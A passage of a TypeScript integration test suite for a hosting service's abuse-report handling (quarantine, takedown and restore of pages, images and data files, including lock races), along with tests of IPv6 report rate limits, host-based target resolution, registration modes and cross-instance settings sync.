      const fileIds = async () => ((await s.get('/api/hosted-data/files', { cookie })).json.files as Array<{ id: string }>).map((f) => f.id)
      const file = async (id: string) => (await s.get(`/api/hosted-data/files/${id}`, { cookie })).json.file
      const c = seed()
      const heldC = await create('seed.txt', c)
      const made = await takedownDuring('put', `${s.url}/svc-data/pub/${heldC.public_token}`, () =>
        s.post('/api/hosted-data/files', { cookie, json: { display_name: 'copy.txt', content: c, content_type: 'text/plain' } }),
      )
      expectError(made, 451, 'plain')
      assert.deepEqual(await fileIds(), [], 'no data file stored')

      const notes = await create('notes.txt', 'clean notes')
      const d = seed()
      const heldD = await create('seed.txt', d)
      const pushed = await takedownDuring('put', `${s.url}/svc-data/pub/${heldD.public_token}`, () =>
        s.post(`/api/hosted-data/files/${notes.id}/versions`, { cookie, json: { content: d, set_default: true } }),
      )
      expectError(pushed, 451, 'plain')
      assert.equal((await file(notes.id)).version_count, 1, 'no version stored')

      const e = seed()
      const heldE = await create('seed.txt', e)
      assert.equal((await s.post(`/api/hosted-data/files/${notes.id}/versions`, { cookie, json: { content: e } })).status, 200)
      const switched = await takedownDuring('admit', `${s.url}/svc-data/pub/${heldE.public_token}`, () =>
        s.post(`/api/hosted-data/files/${notes.id}/default-version`, { cookie, json: { version: 2 } }),
      )
      expectError(switched, 451, 'plain')
      assert.equal((await file(notes.id)).default_version, 1, 'the default is unchanged')
      assert.equal((await s.get(`/svc-data/pub/${notes.public_token}`)).text, 'clean notes')
    })

    it('two admins acting on one report at the same moment: one succeeds, the other gets 409 / 1706', async () => {
      const m = await s.user()
      const store = s.deps.services.get(createAbuse).store
      const read = store.report
      /** Runs both actions on a fresh report, each let past its read of the report only once both have read it. */
      const race = async (a: string, b: string) => {
        const page = `race-${crypto.randomBytes(4).toString('hex')}.html`
        assert.equal((await uploadFile(s, { key: m.key }, page, HTML('race', `<p>${page}</p>`))).status, 200)
        const rep = await adminCall('/svc_api/admin/reports', { url: `${s.url}/${m.username}/${page}`, category: 'spam' })
        assert.equal(rep.status, 201, rep.text)
        const id = rep.json.data.id as string
        let waiting = 0
        let go!: () => void
        const both = new Promise<void>((r) => (go = r))
        store.report = async (rid, q) => {
          const row = await read(rid, q)
          if (rid === id && waiting < 2) {
            if (++waiting === 2) go()
            await both
          }
          return row
        }
        try {
          const answers = await Promise.all([a, b].map((action) => adminCall(`/svc_api/admin/reports/${id}/${action}`, {})))
          return { answers, id }
        } finally {
          store.report = read
        }
      }
      for (const [a, b] of [
        ['quarantine', 'quarantine'],
        ['takedown', 'takedown'],
        ['quarantine', 'dismiss'],
        ['takedown', 'dismiss'],
        ['dismiss', 'dismiss'],
      ]) {
        // pairs where neither may follow the other (a takedown may follow a quarantine)
        const { answers, id } = await race(a, b)
        const won = answers.filter((r) => r.status === 200)
        const lost = answers.filter((r) => r.status !== 200)
        assert.equal(won.length, 1, `${a} + ${b}: ${answers.map((r) => `${r.status} ${r.text}`).join(' | ')}`)
        assert.equal(lost.length, 1)
        expectError(lost[0], 409, 1706)
        const winner = answers[0].status === 200 ? a : b
        const status = { quarantine: 'quarantined', takedown: 'taken_down', dismiss: 'dismissed' }[winner]
        const row = await s.deps.db.k.selectFrom('abuse_reports').select('status').where('id', '=', id).executeTakeFirstOrThrow()
        assert.equal(row.status, status, `${a} + ${b}`)
        const actions = await s.deps.db.k.selectFrom('audit_log').select('action').where('details', 'like', `%${id}%`).execute()
        assert.deepEqual(
          actions.map((x) => x.action).filter((x) => x !== 'abuse.open'),
          [`abuse.${winner}`],
          `${a} + ${b}: one action audited`,
        )
      }
    })

    /** A user's project `site` live at v1 (v2 ready to deploy), reported for phishing. */
    const reportedSite = async () => {
      const m = await s.user()
      const v1 = HTML('v1', `<p>${crypto.randomBytes(6).toString('hex')}</p>`)
      const v2 = HTML('v2', `<p>${crypto.randomBytes(6).toString('hex')}</p>`)
      assert.equal((await deploySite(s, m.key, 'site', { 'index.html': v1 })).res.status, 201)
      const rep = await adminCall('/svc_api/admin/reports', { url: `${s.url}/${m.username}/site/`, category: 'phishing' })
      assert.equal(rep.status, 201, rep.text)
      return { m, v1, v2, rep }
    }

    onPostgres(engine)("a quarantine waits for a deploy holding the user's lock and keeps what it committed as evidence", async () => {
      // SQLite runs one transaction at a time: a quarantine cannot run inside a deploy's there
      const { m, v1, v2, rep } = await reportedSite()
      const answer = await whileWriteHoldsLock(
        m.id,
        () => deploySite(s, m.key, 'site', { 'index.html': v2 }).then((d) => d.res),
        () => adminCall(`/svc_api/admin/reports/${rep.json.data.id}/quarantine`, {}),
      )
      assert.equal(answer.write.status, 201)
      assert.equal(answer.admin.status, 200, answer.admin.text)
      const evidence = (answer.admin.json.data.evidence as Array<{ path: string; digest: string }>).map((e) => [e.path.replace(/@\w+\//, '@/'), e.digest])
      // the version live when the quarantine came, and the kept deploy before it (still served at its own URL)
      assert.deepEqual(
        evidence.sort(),
        [
          ['site/index.html', sha(v2)],
          ['site@/index.html', sha(v1)],
        ],
        'the evidence is the version live when the quarantine came, with the deploy it replaced',
      )
      assert.equal((await s.get(`/${m.username}/site/`)).status, 451)
    })

    it("a held page or project refuses its owner's upload, deploy and publish (451 / 1710) until an admin acts", async () => {
      const m = await s.user()
      assert.equal((await uploadFile(s, { key: m.key }, 'held.html', HTML('v1'))).status, 200)
      assert.equal((await deploySite(s, m.key, 'proj', { 'index.html': HTML('p1') })).res.status, 201)
      const ids: string[] = []
      for (const p of ['held.html', 'proj/']) {
        const rep = await adminCall('/svc_api/admin/reports', { url: `${s.url}/${m.username}/${p}`, category: 'spam' })
        assert.equal(rep.status, 201, rep.text)
        ids.push(rep.json.data.id as string)
        assert.equal((await adminCall(`/svc_api/admin/reports/${rep.json.data.id}/quarantine`, {})).status, 200)
      }
      expectError(await uploadFile(s, { key: m.key }, 'held.html', HTML('v2')), 451, 1710)
      expectError((await deploySite(s, m.key, 'proj', { 'index.html': HTML('p2') })).res, 451, 1710)
      expectError(await batchUpload(s, { key: m.key }, 'proj', [{ filename: 'index.html', data: HTML('p3') }]), 451, 1710)
      expectError(await s.post('/api/folders/proj/publish', { key: m.key }), 451, 1710)
      // other names are not held
      assert.equal((await uploadFile(s, { key: m.key }, 'other.html', HTML('o'))).status, 200)
      for (const id of ids) assert.equal((await adminCall(`/svc_api/admin/reports/${id}/restore`, {})).status, 200)
      assert.equal((await uploadFile(s, { key: m.key }, 'held.html', HTML('v2'))).status, 200)
      assert.equal((await deploySite(s, m.key, 'proj', { 'index.html': HTML('p2') })).res.status, 201)
    })

    /** An image and a data link of a new user granted both features, with the answers their public links give now. */
    const ownedLinks = async () => {
      const m = await s.user()
      await svc(s, 'grant', m.username, 'image-host')
      await svc(s, 'grant', m.username, 'hosted-data')
      const cookie = await s.login(m.username, m.password)
      // data of its own: the bytes of other tests' takedowns stay blocked on this server
      const tag = crypto.randomBytes(6).toString('hex')
      const d = (n: number) => `d${n} ${tag}`
      const png = () => makeImage('png', { width: 9, height: 9, color: `#${crypto.randomBytes(3).toString('hex')}` })
      const sendImage = async (path: string, data: Buffer) => {
        const form = imageForm([{ name: 'x.png', data }])
        return s.post(path, { cookie, body: form.body, headers: { 'content-type': form.contentType } })
      }
      const up = await sendImage('/api/image-host/upload', await png())
      assert.equal(up.status, 200, up.text)
      const token = up.json.images[0].public_token as string
      const imageBytes = (await s.get(`/svc-img/pub/${token}`)).body
      const made = await s.post('/api/hosted-data/files', { cookie, json: { display_name: 'list.txt', content: d(1), content_type: 'text/plain' } })
      assert.equal(made.status, 200, made.text)
      const data = made.json.file as { id: string; public_token: string }
      return { m, cookie, d, png, sendImage, token, imageBytes, data }
    }
    /** The quarantine of `url` by an admin; the report's id. */
    const quarantine = async (url: string): Promise<string> => {
      const rep = await adminCall('/svc_api/admin/reports', { url, category: 'spam' })
      assert.equal(rep.status, 201, rep.text)
      const q = await adminCall(`/svc_api/admin/reports/${rep.json.data.id}/quarantine`, {})
      assert.equal(q.status, 200, q.text)
      return rep.json.data.id as string
    }
    /** 1710's refusal in the plain format of the image and data routes (451, its message, no code). */
    const expectHeld = (r: Res) => {
      expectError(r, 451, 'plain')
      assert.equal(r.json.message, errorMessage('CONTENT_HELD', 'zh'))
    }

    it("a held image or data link refuses its owner's replace, new version and default switch (451 / 1710) until an admin acts", async () => {
      const { cookie, d, png, sendImage, token, imageBytes, data } = await ownedLinks()
      const file = async () => (await s.get(`/api/hosted-data/files/${data.id}`, { cookie })).json.file
      // versions 2 and 3 exist before the hold; the default stays 1
      for (const content of [d(2), d(3)]) assert.equal((await s.post(`/api/hosted-data/files/${data.id}/versions`, { cookie, json: { content } })).status, 200)
      const ids = [await quarantine(`${s.url}/svc-img/pub/${token}`), await quarantine(`${s.url}/svc-data/pub/${data.public_token}`)]

      const fresh = await png()
      expectHeld(await sendImage(`/api/image-host/images/${token}/replace`, fresh))
      expectHeld(await s.post(`/api/hosted-data/files/${data.id}/versions`, { cookie, json: { content: d(4) } }))
      expectHeld(await s.post(`/api/hosted-data/files/${data.id}/versions`, { cookie, json: { content: d(4), set_default: true } }))
      expectHeld(await s.post(`/api/hosted-data/files/${data.id}/default-version`, { cookie, json: { version: 2 } }))
      assert.equal((await s.get(`/svc-img/pub/${token}`)).status, 451)
      assert.equal((await s.get(`/svc-data/pub/${data.public_token}?v=2`)).status, 451)
      assert.deepEqual([(await file()).default_version, (await file()).version_count], [1, 3], 'no version stored, the default unchanged')
      // a delete stays the owner's, as a held page's is (decision 165): here a version not served by default
      assert.equal((await s.request('DELETE', `/api/hosted-data/files/${data.id}/versions/3`, { cookie })).status, 200)
      // the owner's other links are not held
      const other = await sendImage('/api/image-host/upload', await png())
      assert.equal((await sendImage(`/api/image-host/images/${other.json.images[0].public_token}/replace`, await png())).status, 200)

      for (const id of ids) assert.equal((await adminCall(`/svc_api/admin/reports/${id}/restore`, {})).status, 200)
      // what the admin held is what is served again
      assert.equal(sha((await s.get(`/svc-img/pub/${token}`)).body), sha(imageBytes))
      assert.equal((await s.get(`/svc-data/pub/${data.public_token}`)).text, d(1))
      // and the owner's changes go through again
      assert.equal((await sendImage(`/api/image-host/images/${token}/replace`, fresh)).status, 200)
      assert.notEqual(sha((await s.get(`/svc-img/pub/${token}`)).body), sha(imageBytes))
      assert.equal((await s.post(`/api/hosted-data/files/${data.id}/default-version`, { cookie, json: { version: 2 } })).status, 200)
      assert.equal((await s.get(`/svc-data/pub/${data.public_token}`)).text, d(2))
      assert.equal((await s.post(`/api/hosted-data/files/${data.id}/versions`, { cookie, json: { content: d(4), set_default: true } })).status, 200)
      assert.equal((await s.get(`/svc-data/pub/${data.public_token}`)).text, d(4))
    })

    it("a taken-down image or data link answers 451 and its owner's writes find nothing (404), never 1710", async () => {
      const { cookie, d, png, sendImage, token, data } = await ownedLinks()
      for (const url of [`${s.url}/svc-img/pub/${token}`, `${s.url}/svc-data/pub/${data.public_token}`]) {
        const rep = await adminCall('/svc_api/admin/reports', { url, category: 'spam' })
        assert.equal((await adminCall(`/svc_api/admin/reports/${rep.json.data.id}/takedown`, {})).status, 200)
      }
      // the rows are gone: the owner's writes find nothing (404), never 1710
      expectError(await sendImage(`/api/image-host/images/${token}/replace`, await png()), 404, 'plain')
      expectError(await s.post(`/api/hosted-data/files/${data.id}/versions`, { cookie, json: { content: d(2) } }), 404, 'plain')
      assert.equal((await s.get(`/svc-img/pub/${token}`)).status, 451)
      assert.equal((await s.get(`/svc-data/pub/${data.public_token}`)).status, 451)
    })

    onPostgres(engine)('a replace or new version that waited for the lock a quarantine held does not change the held link', async () => {
      const { m, cookie, d, png, sendImage, token, imageBytes, data } = await ownedLinks()
      const fresh = await png()
      const cases: Array<[string, () => Promise<Res>]> = [
        [`${s.url}/svc-img/pub/${token}`, () => sendImage(`/api/image-host/images/${token}/replace`, fresh)],
        [
          `${s.url}/svc-data/pub/${data.public_token}`,
          () => s.post(`/api/hosted-data/files/${data.id}/versions`, { cookie, json: { content: d(2), set_default: true } }),
        ],
      ]
      const ids: string[] = []
      for (const [url, write] of cases) {
        const rep = await adminCall('/svc_api/admin/reports', { url, category: 'spam' })
        assert.equal(rep.status, 201, rep.text)
        ids.push(rep.json.data.id as string)
        const answer = await whileWriteHoldsLock(m.id, () => adminCall(`/svc_api/admin/reports/${rep.json.data.id}/quarantine`, {}), write)
        assert.equal(answer.write.status, 200, answer.write.text)
        expectHeld(answer.admin)
      }
      for (const id of ids) assert.equal((await adminCall(`/svc_api/admin/reports/${id}/restore`, {})).status, 200)
      assert.equal(sha((await s.get(`/svc-img/pub/${token}`)).body), sha(imageBytes))
      assert.equal((await s.get(`/svc-data/pub/${data.public_token}`)).text, d(1))
      assert.equal((await s.get(`/api/hosted-data/files/${data.id}`, { cookie })).json.file.version_count, 1)
    })

    onPostgres(engine)('a deploy that waited for the lock a quarantine held does not commit unseen bytes behind the hold', async () => {
      const { m, v1, v2, rep } = await reportedSite()
      const answer = await whileWriteHoldsLock(
        m.id,
        () => adminCall(`/svc_api/admin/reports/${rep.json.data.id}/quarantine`, {}),
        () => deploySite(s, m.key, 'site', { 'index.html': v2 }).then((d) => d.res),
      )
      assert.equal(answer.write.status, 200, answer.write.text)
      // the deploy runs after the hold is in place: refused, so the evidence is what stays live
      expectError(answer.admin, 451, 1710)
      const evidence = (await s.deps.db.k.selectFrom('abuse_evidence').select('digest').where('report_id', '=', rep.json.data.id).execute()).map(
        (r) => r.digest,
      )
      assert.deepEqual(evidence, [sha(v1)])
      assert.equal((await s.get(`/${m.username}/site/`)).status, 451)
      // once restored, the version the admin saw is served, and the owner can deploy again
      assert.equal((await adminCall(`/svc_api/admin/reports/${rep.json.data.id}/restore`, {})).status, 200)
      assert.equal((await s.get(`/${m.username}/site/`)).text, v1)
      assert.equal((await deploySite(s, m.key, 'site', { 'index.html': v2 })).res.status, 201)
    })

    onPostgres(engine)("a takedown waits for a deploy holding the user's lock, then takes down what it committed", async () => {
      // SQLite runs one transaction at a time: a takedown cannot run inside a deploy's there
      const { m, v2, rep } = await reportedSite()

      const answer = await whileWriteHoldsLock(
        m.id,
        () => deploySite(s, m.key, 'site', { 'index.html': v2 }).then((d) => d.res),
        () => adminCall(`/svc_api/admin/reports/${rep.json.data.id}/takedown`, {}),
      )
      assert.equal(answer.write.status, 201)
      assert.equal(answer.admin.status, 200)
      const db = s.deps.db
      const left = await db.k.selectFrom('folders').select('id').where('user_id', '=', m.id).where('name', '=', 'site').execute()
      assert.deepEqual(left, [], 'the project the deploy wrote is gone')
      const evidence = (await db.k.selectFrom('abuse_evidence').select('digest').where('report_id', '=', rep.json.data.id).execute()).map((r) => r.digest)
      assert.ok(evidence.includes(sha(v2)), 'the bytes taken down are kept as evidence')
      const blocked = await db.k.selectFrom('blocked_digests').select('digest').where('digest', '=', sha(v2)).execute()
      assert.equal(blocked.length, 1, 'and blocked')
      assert.equal((await s.get(`/${m.username}/site/`)).status, 451)
    })
  })

  describe(`report limits per IPv6 network (behind a proxy) [${engine}]`, () => {
    let s: TestServer
    before(async () => {
      s = await startServer({ engine, env: { RATE_LIMITS: HIGH_LIMITS, TRUST_PROXY: '1' } })
    })
    after(() => s.close())
    const from = (ip: string, i: number) =>
      s.post('/svc_api/abuse/reports', {
        json: { url: `${s.url}/nobody/p${i}.html`, category: 'spam' },
        headers: { 'x-forwarded-for': ip, 'x-forwarded-proto': 'https' },
      })

    it('counts every address of one /64 together, and another /64 apart', async () => {
      // a new address of the same /64 for every report: a client's own network costs nothing to walk
      let n = 0
      let last: Res | null = null
      for (; n < 25; n++) {
        last = await from(`2001:db8:1:2::${(n + 1).toString(16)}`, n)
        if (last.status !== 201) break
      }
      expectError(last!, 429, 1703)
      assert.equal(n, 20, 'the hourly limit, whatever the addresses inside the /64')
      assert.equal((await from('2001:db8:1:2:ffff:ffff:ffff:ffff', 99)).status, 429)
      const other = await from('2001:db8:1:3::1', 100)
      assert.equal(other.status, 201, other.text)
      // IPv4 keeps counting per address
      assert.equal((await from('198.51.100.7', 101)).status, 201)
    })
  })

  // a reported URL names content by its host first: another host's path is not the path form
  describe(`abuse targets follow the URL's host (PUBLIC_URL set) [${engine}]`, () => {
    let s: TestServer
    let dns: TestDns
    let adminCookie: string
    let bob: Awaited<ReturnType<TestServer['user']>>
    let carol: Awaited<ReturnType<TestServer['user']>>
    const adminCall = (method: string, p: string, json?: unknown) => s.request(method, p, { cookie: adminCookie, ...(json === undefined ? {} : { json }) })
    const at = (host: string, p: string) => s.get(p, { headers: { host } })

    before(async () => {
      dns = await startDns()
      s = await startServer({ engine, env: { RATE_LIMITS: HIGH_LIMITS, DNS_RESOLVER: dns.addr, PUBLIC_URL: 'https://svc.test' } })
      const a = await s.user({ admin: true })
      adminCookie = await s.login(a.username, a.password)
      bob = await s.user()
      carol = await s.user()
      assert.equal((await uploadFile(s, { key: bob.key }, 'page.html', HTML('bob page'))).status, 200)
      const { res } = await deploySite(s, carol.key, 'site', { 'index.html': HTML('carol home'), 'sub/x.html': HTML('carol sub') })
      assert.equal(res.status, 201, res.text)
      await verifiedDomain(s, dns, carol.key, 'www.carol.test', 'site')
    })
    after(async () => {
      await s?.close()
      await dns?.close()
    })

    it("another host's URL names no content: 1705 to the admin, a report without a target, nothing held", async () => {
      const url = `https://www.alice-shop.example/${bob.username}/page.html`
      const open = await adminCall('POST', '/svc_api/admin/reports', { url, category: 'phishing' })
      expectError(open, 400, 1705)
      assert.equal(open.json.message, '无法识别要处理的内容：www.alice-shop.example 既不是本服务的主机（svc.test），也不是用户的源或已验证的自定义域名')
      const inEn = await s.request('POST', '/svc_api/admin/reports', {
        cookie: adminCookie,
        json: { url, category: 'phishing' },
        headers: { 'accept-language': 'en' },
      })
      expectError(inEn, 400, 1705)
      assert.equal(
        inEn.json.message,
        "The content to act on cannot be found: www.alice-shop.example is not this service's host (svc.test), a user's origin or a verified custom domain",
      )
      expectError(await adminCall('GET', `/svc_api/admin/content?url=${encodeURIComponent(url)}`), 400, 1705)
      for (const other of [`https://www.alice-shop.example/svc-img/pub/${'a'.repeat(22)}`, `https://deep.x.${bob.username}.localhost/page.html`])
        expectError(await adminCall('POST', '/svc_api/admin/reports', { url: other, category: 'spam' }), 400, 1705)
      // a visitor's report is kept, with no target; acting on it is refused the same way
      const rep = await s.post('/svc_api/abuse/reports', { json: { url, category: 'phishing' } })
      assert.equal(rep.status, 201, rep.text)
      const item = (await adminCall('GET', '/svc_api/admin/reports?status=open')).json.data.reports.find((r: any) => r.id === rep.json.data.id)
      assert.equal(item.target, null)
      expectError(await adminCall('POST', `/svc_api/admin/reports/${rep.json.data.id}/quarantine`), 400, 1705)
      assert.equal((await s.get(`/${bob.username}/page.html`)).status, 200, "bob's page is not held")
      assert.equal((await s.deps.db.k.selectFrom('content_holds').selectAll().execute()).length, 0)
    })

    it("the service's own host (PUBLIC_URL's) names the path form, as before", async () => {
      const rep = await adminCall('POST', '/svc_api/admin/reports', { url: `https://svc.test/${bob.username}/page.html`, category: 'spam' })
      assert.equal(rep.status, 201, rep.text)
      assert.equal(rep.json.data.target, `site:${bob.username}/page.html`)
      const byUrl = await adminCall('GET', `/svc_api/admin/content?url=${encodeURIComponent(`https://svc.test:443/${bob.username}/page.html`)}`)
      assert.deepEqual(
        byUrl.json.data.items.map((i: any) => i.name),
        ['page.html'],
      )
      assert.equal((await adminCall('POST', `/svc_api/admin/reports/${rep.json.data.id}/quarantine`)).status, 200)
      assert.equal((await s.get(`/${bob.username}/page.html`)).status, 451)
      assert.equal((await adminCall('POST', `/svc_api/admin/reports/${rep.json.data.id}/restore`)).status, 200)
      assert.equal((await s.get(`/${bob.username}/page.html`)).status, 200)
    })

    it('a verified custom domain names its project, whatever user the path seems to name', async () => {
      // the /report page's way: a visitor's report through the domain's report link
      const rep = await s.post('/svc_api/abuse/reports', { json: { url: 'https://www.carol.test/sub/x.html', category: 'phishing' } })
      assert.equal(rep.status, 201, rep.text)
      const item = (await adminCall('GET', '/svc_api/admin/reports?status=open')).json.data.reports.find((r: any) => r.id === rep.json.data.id)
      assert.equal(item.target, `site:${carol.username}/site`)
      const looksLikeBob = await adminCall('POST', '/svc_api/admin/reports', { url: `https://www.carol.test/${bob.username}/page.html`, category: 'spam' })
      assert.equal(looksLikeBob.status, 201, looksLikeBob.text)
      assert.equal(looksLikeBob.json.data.target, `site:${carol.username}/site`)
      const byUrl = await adminCall('GET', `/svc_api/admin/content?url=${encodeURIComponent('https://WWW.carol.test/')}`)
      assert.deepEqual(byUrl.json.data.items.map((i: any) => [i.username, i.name, i.path]).sort(), [
        [carol.username, 'site', 'index.html'],
        [carol.username, 'site', 'sub/x.html'],
      ])
      assert.equal((await adminCall('POST', `/svc_api/admin/reports/${rep.json.data.id}/quarantine`)).status, 200)
      assert.equal((await at('www.carol.test', '/sub/x.html')).status, 451)
      assert.equal((await s.get(`/${carol.username}/site/`)).status, 451)
      assert.equal((await s.get(`/${bob.username}/page.html`)).status, 200)
      assert.equal((await adminCall('POST', `/svc_api/admin/reports/${rep.json.data.id}/restore`)).status, 200)
      assert.equal((await at('www.carol.test', '/sub/x.html')).status, 200)
    })
  })

  describe(`registration modes [${engine}]`, () => {
    let s: TestServer
    let adminCookie: string
    before(async () => {
      s = await startServer({ engine })
      const a = await s.user({ admin: true })
      adminCookie = await s.login(a.username, a.password)
    })
    after(() => s.close())
    const mode = (m: string) => s.post('/svc_api/admin/settings', { cookie: adminCookie, json: { registration: m } })
    const signUp = (username: string, extra: Record<string, string> = {}) =>
      s.post('/register', { form: { username, password: 'long-enough-pw', password2: 'long-enough-pw', ...extra } })

    it('open: signs up and in; closed: 403 and no account', async () => {
      let r = await signUp('openuser')
      assert.equal(r.status, 303)
      assert.match(r.header('set-cookie')!, /(^|, )session=/)
      assert.equal((await mode('closed')).status, 200)
      assert.equal((await s.get('/register')).status, 403)
      r = await signUp('closeduser')
      assert.equal(r.status, 303, 'to the closed page (decision 153)')
      assert.equal(r.header('location'), '/register')
      assert.equal(await s.deps.users.byName('closeduser'), undefined)
    })

    it('pending: the account waits, disabled, until an admin enables it', async () => {
      await mode('pending')
      const r = await signUp('waiting')
      assert.equal(r.status, 303, 'to the page that says so (decision 153)')
      assert.equal(r.header('location'), '/register?pending')
      assert.equal(r.header('set-cookie')?.includes('session='), false)
      const held = await s.get('/register?pending')
      assert.equal(held.status, 200)
      assert.match(held.text, /awaiting review|等待审核/)
      assert.ok(!held.text.includes('name="password"'))
      const login = await s.post('/login', { form: { username: 'waiting', password: 'long-enough-pw' }, headers: { accept: 'application/json' } })
      expectError(login, 403, 1006)
      const list = await s.get('/svc_api/admin/users?search=waiting', { cookie: adminCookie })
      assert.equal(list.json.data.users[0].pending, true)
      await s.post('/svc_api/admin/users/waiting', { cookie: adminCookie, json: { disabled: false } })
      assert.equal((await s.get('/svc_api/admin/users?search=waiting', { cookie: adminCookie })).json.data.users[0].pending, false)
      assert.equal((await s.post('/login', { form: { username: 'waiting', password: 'long-enough-pw' }, headers: { accept: 'application/json' } })).status, 200)
    })

    it('pending: svc user set --enable approves the account, as the console does', async () => {
      await mode('pending')
      assert.equal((await signUp('clipending')).header('location'), '/register?pending')
      const cli = await runCli(['user', 'set', 'clipending', '--enable'], { env: { DATA_DIR: s.dataDir, DATABASE_URL: s.env.DATABASE_URL } })
      assert.equal(cli.code, 0, cli.stderr)
      const row = async () => (await s.get('/svc_api/admin/users?search=clipending', { cookie: adminCookie })).json.data.users[0]
      assert.deepEqual([(await row()).pending, (await row()).disabled], [false, false])
      // disabled later by an admin: its login says disabled, not awaiting review
      assert.equal((await s.post('/svc_api/admin/users/clipending', { cookie: adminCookie, json: { disabled: true } })).status, 200)
      const login = await s.post('/login', { form: { username: 'clipending', password: 'long-enough-pw' }, headers: { accept: 'text/html' } })
      assert.equal(login.status, 303)
      assert.match(login.header('location') ?? '', /^\/login\?error=disabled&/)
    })

    it('invite: a one-time code from an admin is needed', async () => {
      await mode('invite')
      const page = await s.get('/register')
      assert.match(page.text, /name="invite"/)
      let r = await signUp('invitee', { invite: 'INV-wrong' })
      assert.equal(r.header('location'), '/register?error=invite&username=invitee')
      assert.equal(await s.deps.users.byName('invitee'), undefined)
      const code = (await s.post('/svc_api/admin/invites', { cookie: adminCookie, json: {} })).json.data.code as string
      assert.match(code, /^INV-/)
      r = await signUp('invitee', { invite: code })
      assert.equal(r.status, 303, r.text.slice(0, 200))
      r = await signUp('invitee2', { invite: code })
      assert.equal(r.header('location'), '/register?error=invite&username=invitee2', 'used once')
      assert.equal(await s.deps.users.byName('invitee2'), undefined)
    })
  })

  describe(`settings across instances (shared database, Redis bus) [${engine}]`, needs('redis'), () => {
    it('a setting changed on one instance applies on the other at once', async () => {
      const a = await startServer({ engine, keepData: true, env: { REDIS_URL, REDIS_PREFIX: `t${crypto.randomBytes(4).toString('hex')}:` } })
      const b = await startSecond(a)
      try {
        const adm = await a.user({ admin: true })
        const cookie = await a.login(adm.username, adm.password)
        assert.equal((await b.get('/register')).status, 200, 'open by default, and now cached on b')
        // proof that b answers from its cache: a change behind the service's back is not seen
        await a.deps.db.k.insertInto('settings').values({ name: 'registration', value: 'closed', updated_at: 0, updated_by: 'test' }).execute()
        assert.equal((await b.get('/register')).status, 200)
        await a.deps.db.k.deleteFrom('settings').execute()
        const delivered = () => new Promise<void>((resolve) => b.deps.bus.subscribe('settings', () => resolve()))
        let got = delivered()
        assert.equal((await a.post('/svc_api/admin/settings', { cookie, json: { registration: 'closed' } })).status, 200)
        await got
        assert.equal((await b.get('/register')).status, 403)
        got = delivered()
        await a.post('/svc_api/admin/settings', { cookie, json: { registration: 'open' } })
        await got
        assert.equal((await b.get('/register')).status, 200)
      } finally {
        await b.close()
        await a.close()
      }
    })
  })
}
